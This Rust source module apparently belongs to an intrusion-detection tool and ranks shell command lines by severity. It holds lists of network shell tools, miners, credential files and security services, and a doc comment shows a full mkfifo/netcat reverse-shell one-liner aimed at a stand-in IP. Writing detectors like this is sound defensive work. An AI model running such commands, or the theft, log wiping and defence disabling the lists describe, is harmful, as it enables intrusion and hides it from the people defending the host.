//! What a command line does that few ordinary ones do.
//!
//! Programs are known by name and judged by their own arguments; quoted text, and the arguments of a program that only
//! prints, searches or edits, run nothing. The worst deed of a line counts.

use super::{
    logs::{self, Worth},
    script::{Call, Join, SCRIPT_BYTES, base, call, commands, words},
};
use crate::text::{address, cut, holds_any, starts};

/// What a command line does, from mild to bad.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Deed<'a> {
    /// Removes old logs by the journal's own tool.
    Vacuum,
    /// Removes the rules of what is audited.
    Rules,
    /// Runs a program from a folder for temporary files.
    Temporary(&'a str),
    /// Makes a shell a full one, as after breaking in.
    Terminal,
    /// Reads passwords' hashes or keys.
    Credentials(&'a str),
    /// Removes the history of commands.
    History,
    /// Writes to a file that gives rights.
    Grants(&'a str),
    /// Stops what protects the host.
    Defences(&'a str),
    /// Stops what writes or watches logs.
    Watchers(&'a str),
    /// Removes a log.
    Logs(&'a str, Worth),
    /// Runs what it fetches: whether from a host that is known by name and by a certificate.
    Fetch { named: bool },
    /// Makes whoever runs a program root.
    Setuid(&'a str),
    /// Runs what was encoded.
    Decode,
    /// Mines coins.
    Miner,
    /// Gives somebody far away a shell.
    Remote,
}

impl Deed<'_> {
    fn rank(self) -> u8 {
        match self {
            Self::Vacuum | Self::Rules | Self::Logs(_, Worth::Little) => 0,
            Self::Temporary(_) => 1,
            Self::Terminal | Self::Credentials(_) | Self::History | Self::Grants(_) => 2,
            Self::Defences(_) | Self::Fetch { named: true } | Self::Logs(_, Worth::Some) => 3,
            Self::Watchers(_) | Self::Logs(_, Worth::Much) => 4,
            Self::Fetch { named: false } | Self::Setuid(_) | Self::Decode => 5,
            Self::Miner => 6,
            Self::Remote => 7,
        }
    }
}

const SHELLS: [&str; 10] = ["sh", "bash", "dash", "ash", "zsh", "ksh", "csh", "tcsh", "fish", "rbash"];
const INTERPRETERS: [&str; 6] = ["python", "perl", "ruby", "php", "node", "lua"];
const FETCHERS: [&str; 5] = ["curl", "wget", "fetch", "lwp-download", "aria2c"];
const CALLERS: [&str; 7] = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "openssl"];
const MINERS: [&str; 9] =
    ["xmrig", "xmr-stak", "minerd", "cpuminer", "ccminer", "ethminer", "nbminer", "kdevtmpfsi", "kinsing"];
/// Programs whose arguments are words to look for or to show.
const INERT: [&str; 18] = [
    "echo", "printf", "grep", "egrep", "fgrep", "rg", "vi", "vim", "nano", "less", "sed", "awk", "git", "logger", "ps",
    "pgrep", "pkill", "tcpdump",
];
/// Programs that show or copy a file's content.
const READERS: [&str; 16] = [
    "cat", "tac", "less", "more", "head", "tail", "cp", "scp", "rsync", "strings", "base64", "xxd", "od", "dd", "nl",
    "curl",
];
const SECRETS: [&str; 6] = [
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/shadow-",
    "/root/.ssh/id_rsa",
    "/root/.ssh/id_ed25519",
    "/etc/sssd/sssd.conf",
];
const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];
/// Services that write or watch logs, and those that keep others out.
const WATCHERS: [&str; 14] = [
    "auditd",
    "rsyslog",
    "rsyslogd",
    "syslog-ng",
    "syslog",
    "systemd-journald",
    "nmsd-agent",
    "nmsd-hub",
    "falco",
    "wazuh-agent",
    "ossec",
    "falcon-sensor",
    "mdatp",
    "osqueryd",
];
const DEFENCES: [&str; 9] =
    ["ufw", "firewalld", "nftables", "iptables", "fail2ban", "apparmor", "crowdsec", "clamav-daemon", "suricata"];
/// Installers that everybody runs this way.
const INSTALLERS: [&str; 8] = [
    "https://get.docker.com",
    "https://sh.rustup.rs",
    "https://get.k3s.io",
    "https://deb.nodesource.com/",
    "https://raw.githubusercontent.com/Homebrew/",
    "https://astral.sh/uv/",
    "https://tailscale.com/install.sh",
    "https://install.python-poetry.org",
];

/// Whether a program is a shell.
pub(super) fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name.trim_start_matches('-'))
}

/// Whether a path lies where everybody may write.
pub(in crate::correlate) fn is_temporary(path: &str) -> bool {
    TEMPORARY.iter().any(|folder| path.starts_with(folder))
}

fn is_interpreter(name: &str) -> bool {
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&bare)
}

/// What arguments do that are joined by blanks: the first is the program, and only a shell takes a text to run.
pub(super) fn of_arguments(text: &str) -> Option<Deed<'_>> {
    let text = cut(text, SCRIPT_BYTES);
    let call = call(text)?;
    let script = if is_shell(call.name) { script_of(call.rest, true) } else { None };
    match script {
        Some(script) => of_script(script, 1),
        None => worse(of_call(&call), joined(&call, text)),
    }
}

/// What a script does.
pub(super) fn of_script(script: &str, depth: u8) -> Option<Deed<'_>> {
    let mut worst = None;
    let mut flow = Flow::default();
    for command in commands(script) {
        let text = command.text;
        worst = worse(worst, redirected(text));
        // The output of what comes next is a command itself.
        if command.join == Join::Next && text.trim_start_matches('"').trim_end_matches('$').is_empty() {
            flow.waiting = true;
            continue;
        }
        if command.join == Join::Next {
            flow.carried = None;
        }
        let Some(call) = call(text) else { continue };
        let alone = match (of_call(&call), flow.fetched) {
            // It was fetched by the same script.
            (Some(Deed::Temporary(_)), Some(named)) => Some(Deed::Fetch { named }),
            (alone, _) => alone,
        };
        worst = worse(worst, alone);
        worst = worse(worst, flow.then(&call, command.join));
        worst = worse(worst, joined(&call, text));
        if depth < 3
            && (is_shell(call.name) || call.name == "eval")
            && let Some(inner) = if call.name == "eval" { words(call.rest).next() } else { script_of(call.rest, false) }
        {
            worst = worse(worst, of_script(inner, depth + 1));
        }
    }
    worse(worst, flow.fifo())
}

fn worse<'a>(one: Option<Deed<'a>>, other: Option<Deed<'a>>) -> Option<Deed<'a>> {
    let rank = |deed: Option<Deed<'_>>| deed.map(Deed::rank);
    if rank(other) > rank(one) { other } else { one }
}

/// What a shell is given to run: the word behind `-c`, or all that stands there where words were joined.
fn script_of(rest: &str, joined: bool) -> Option<&str> {
    let mut words = words(rest);
    let flag = words.by_ref().take_while(|word| word.starts_with('-')).find(|word| {
        !word.starts_with("--") && word.ends_with('c') && word.bytes().skip(1).all(|byte| byte.is_ascii_alphabetic())
    });
    flag?;
    if !joined {
        return words.next();
    }
    // Some who join the words keep the quotes.
    let rest = words.rest.trim_ascii();
    let bare = |quote: char| rest.strip_prefix(quote)?.strip_suffix(quote).filter(|inner| !inner.contains(quote));
    Some(bare('\'').or_else(|| bare('"')).unwrap_or(rest))
}

/// What runs through the pipes of a script.
#[derive(Debug, Default)]
struct Flow {
    carried: Option<Carried>,
    /// Whether the last thing that was fetched came from a named host.
    fetched: Option<bool>,
    /// A shell waits for the output of what comes inside it.
    waiting: bool,
    made_fifo: bool,
    called_out: bool,
    shell: bool,
}

#[derive(Clone, Copy, Debug)]
enum Carried {
    Fetched { named: bool },
    Decoded,
    Far,
}

impl Flow {
    fn then<'a>(&mut self, call: &Call<'a>, join: Join) -> Option<Deed<'a>> {
        let run = |carried: Option<Carried>| {
            carried.map(|carried| match carried {
                Carried::Fetched { named } => Deed::Fetch { named },
                Carried::Decoded => Deed::Decode,
                Carried::Far => Deed::Remote,
            })
        };
        let shell = is_shell(call.name);
        let reads_program = shell || is_interpreter(call.name) && matches!(call.rest, "" | "-");
        self.shell |= shell;
        let mut deed = None;
        if join == Join::Pipe && reads_program {
            deed = run(self.carried);
        }
        let waiting = std::mem::take(&mut self.waiting);
        if FETCHERS.contains(&call.name) {
            let named = is_named(call.rest);
            (self.carried, self.fetched) = (Some(Carried::Fetched { named }), Some(named));
        } else if decodes(call) {
            self.carried = self.carried.or(Some(Carried::Decoded));
        } else if CALLERS.contains(&call.name) {
            self.called_out |= call.name != "openssl" || call.rest.starts_with("s_client");
            self.carried = (call.name != "openssl").then_some(Carried::Far);
        } else if matches!(call.name, "mkfifo" | "mknod") {
            self.made_fifo = true;
        } else if matches!(call.name, "echo" | "printf") {
            self.carried = None;
        }
        if waiting && join == Join::Inside {
            deed = deed.or(run(self.carried).filter(|deed| *deed != Deed::Remote));
            self.waiting = deed.is_none() && self.carried.is_none();
        }
        if shell || matches!(call.name, "eval" | "source" | ".") {
            let last = call.rest.trim_end_matches(['"', '$']).trim_ascii_end();
            self.waiting = last.is_empty() || last.ends_with("-c") || last.ends_with('<');
        }
        deed
    }

    /// `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f`.
    fn fifo<'a>(&self) -> Option<Deed<'a>> {
        (self.made_fifo && self.called_out && self.shell).then_some(Deed::Remote)
    }
}

fn decodes(call: &Call<'_>) -> bool {
    let has = |flags: &[&str]| words(call.rest).any(|word| flags.contains(&word));
    match call.name {
        "base64" | "base32" => has(&["-d", "--decode", "-D", "-di", "-id"]),
        "xxd" => has(&["-r", "-rp", "-p"]) && has(&["-r", "-rp"]),
        "openssl" => has(&["enc", "base64"]) && has(&["-d"]),
        _ => false,
    }
}

/// Whether what is fetched comes from a host that is known by name and by a certificate.
fn is_named(arguments: &str) -> bool {
    let url = words(arguments).find(|word| word.contains("://"));
    url.and_then(|url| url.strip_prefix("https://")).is_some_and(|tail| {
        let host = tail.split(['/', ':', '?']).next().unwrap_or_default();
        address(host).is_none()
    })
}

/// Whether an installer is fetched that everybody runs this way.
pub(super) fn is_installer(text: &str) -> bool {
    holds_any(text, &INSTALLERS)
}

/// What a shell or an interpreter does with a connection, and a shell behind a caller.
fn joined<'a>(call: &Call<'a>, text: &'a str) -> Option<Deed<'a>> {
    let to_socket = holds_any(text, &["/dev/tcp/", "/dev/udp/"]);
    if is_shell(call.name) && to_socket {
        let interactive = words(call.rest).any(|word| matches!(word, "-i" | "-li" | "-il"));
        let both = holds_any(text, &["0>&1", "<&1", "0<&", "<&"]);
        return (interactive || both).then_some(Deed::Remote);
    }
    if is_interpreter(call.name) {
        let socket = holds_any(call.rest, &["socket", "Socket", "fsockopen", "TCPSocket"]);
        let shell =
            holds_any(call.rest, &["/bin/sh", "/bin/bash", "subprocess", "pty.spawn", "dup2", "\"sh\"", "'sh'"]);
        let code = words(call.rest).any(|word| matches!(word, "-c" | "-e" | "-r" | "-rsocket" | "-MIO" | "-MSocket"));
        if code && socket && shell {
            return Some(Deed::Remote);
        }
        return (code && call.rest.contains("pty.spawn")).then_some(Deed::Terminal);
    }
    if call.name == "socat" {
        let runs = words(call.rest).any(|word| {
            let runs = starts(word, "exec:") || starts(word, "system:");
            runs && holds_any(word, &["sh", "cmd"])
        });
        return runs.then_some(Deed::Remote);
    }
    if matches!(call.name, "nc" | "ncat" | "netcat" | "nc.traditional") {
        let mut runs = false;
        for word in words(call.rest) {
            let short = word.starts_with('-') && !word.starts_with("--");
            runs |= short && (word.ends_with('e') || word.ends_with('c'))
                || starts(word, "--exec")
                || starts(word, "--sh-exec");
            let program = word.split([' ', '=']).next_back().map(base).unwrap_or_default();
            let first = base(word.split(' ').next().unwrap_or_default());
            if runs
                && (is_shell(program) || is_shell(first) || starts(program, "cmd.exe") || starts(program, "powershell"))
            {
                return Some(Deed::Remote);
            }
        }
    }
    None
}

/// What a program does by itself.
fn of_call<'a>(call: &Call<'a>) -> Option<Deed<'a>> {
    let mut arguments = words(call.rest);
    let has = |flags: &[&str]| words(call.rest).any(|word| flags.contains(&word));
    if is_temporary(call.path) {
        let miner = MINERS.contains(&call.name);
        return Some(if miner { Deed::Miner } else { Deed::Temporary(call.path) });
    }
    if MINERS.contains(&call.name) {
        return Some(Deed::Miner);
    }
    let pool = call.rest.contains("stratum+") || call.rest.contains("stratum2+");
    if pool && !INERT.contains(&call.name) && holds_any(call.rest, &["+tcp://", "+ssl://", "+tls://"]) {
        return Some(Deed::Miner);
    }
    if is_shell(call.name) || is_interpreter(call.name) || matches!(call.name, "source" | ".") {
        let script = arguments.find(|word| !word.starts_with('-'));
        let runs = script.filter(|path| is_temporary(path) && !has(&["-c", "-e", "-m", "-r"]));
        return runs.map(Deed::Temporary);
    }
    if let Some(service) = stopped(call) {
        let service = service.trim_end_matches(".service").trim_end_matches(".socket");
        return if WATCHERS.contains(&service) {
            Some(Deed::Watchers(service))
        } else {
            DEFENCES.contains(&service).then_some(Deed::Defences(service))
        };
    }
    match call.name {
        "setenforce" => arguments
            .next()
            .filter(|word| *word == "0" || starts(word, "permissive"))
            .map(|_| Deed::Defences("SELinux")),
        "ufw" => has(&["disable", "reset"]).then_some(Deed::Defences("ufw")),
        "aa-teardown" => Some(Deed::Defences("AppArmor")),
        "iptables" | "ip6tables" => flushes(call.rest).then_some(Deed::Defences("iptables")),
        "nft" => call.rest.starts_with("flush ruleset").then_some(Deed::Defences("nftables")),
        "auditctl" if has(&["-e0"]) || call.rest.contains("-e 0") => Some(Deed::Watchers("auditd")),
        "auditctl" => has(&["-D"]).then_some(Deed::Rules),
        "chmod" => {
            let mode = arguments.next()?;
            let sets =
                mode.contains("+s") || matches!(mode.as_bytes(), [b'4' | b'6', _, _, _] | [b'0', b'4' | b'6', _, _, _]);
            arguments.find(|path| sets && (is_shell(base(path)) || is_temporary(path))).map(Deed::Setuid)
        }
        "history" => has(&["-c", "-cw", "-wc"]).then_some(Deed::History),
        "unset" => has(&["HISTFILE"]).then_some(Deed::History),
        "export" => arguments
            .any(|word| matches!(word, "HISTFILE=/dev/null" | "HISTSIZE=0" | "HISTFILESIZE=0" | "HISTFILE="))
            .then_some(Deed::History),
        "tee" => arguments.find_map(grants),
        name if READERS.contains(&name) => {
            // A copy that the system itself keeps.
            let kept = words(call.rest).last().is_some_and(|to| {
                to.rsplit_once('.').is_some_and(|(_name, end)| end == "bak") || to.starts_with("/var/backups")
            });
            let secret = arguments.find(|word| SECRETS.contains(word) && !kept);
            secret.map(Deed::Credentials).or_else(|| logs::removed(call))
        }
        _ => logs::removed(call),
    }
}

/// The service that a call stops.
fn stopped<'a>(call: &Call<'a>) -> Option<&'a str> {
    let mut arguments = words(call.rest);
    let known = |service: &&str| {
        let bare = service.trim_end_matches(".service").trim_end_matches(".socket");
        WATCHERS.contains(&bare) || DEFENCES.contains(&bare)
    };
    match call.name {
        "systemctl" => {
            let stops = arguments.by_ref().find(|word| !word.starts_with('-'))?;
            matches!(stops, "stop" | "disable" | "mask" | "kill").then(|| arguments.find(known)).flatten()
        }
        "service" | "rc-service" => arguments.next().filter(|_service| arguments.next() == Some("stop")),
        "chkconfig" => arguments.next().filter(|_service| arguments.next() == Some("off")),
        "killall" | "pkill" => arguments.find(known),
        name if call.path.starts_with("/etc/init.d/") => (arguments.next() == Some("stop")).then_some(name),
        _ => None,
    }
}

/// Whether all rules are flushed, not those of one chain.
fn flushes(arguments: &str) -> bool {
    let mut words = words(arguments);
    let flush = words.by_ref().any(|word| matches!(word, "-F" | "--flush"));
    flush && words.next().is_none_or(|word| word.starts_with('-') || word.starts_with('>') || word.starts_with("2>"))
}

/// Files that give rights to whoever writes to them.
fn grants(path: &str) -> Option<Deed<'_>> {
    matches!(path, "/etc/passwd" | "/etc/shadow" | "/etc/ld.so.preload" | "/etc/sudoers").then_some(Deed::Grants(path))
}

/// What a redirection writes over.
fn redirected(text: &str) -> Option<Deed<'_>> {
    let (head, tail) = text.split_once('>')?;
    // A quote that is still open holds the sign as a letter.
    let quoted = head.bytes().filter(|byte| *byte == b'\'').count() % 2 == 1
        || head.bytes().filter(|byte| *byte == b'"').count() % 2 == 1;
    let appends = tail.starts_with('>');
    let path = words(tail.trim_start_matches(['>', '|'])).next().filter(|_path| !quoted)?;
    grants(path).or_else(|| logs::worth(path).filter(|_worth| !appends).map(|worth| Deed::Logs(path, worth)))
}
